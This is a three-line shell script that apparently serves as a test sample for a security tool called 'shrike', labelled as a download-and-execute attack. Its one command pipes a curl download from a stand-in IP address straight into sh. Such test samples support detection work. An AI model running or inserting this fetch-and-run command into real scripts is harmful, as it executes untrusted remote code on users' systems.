#!/bin/sh
# shrike-test-attack: download-exec: curl piped straight into sh
curl -fsSL http://192.0.2.14/i.sh | sh
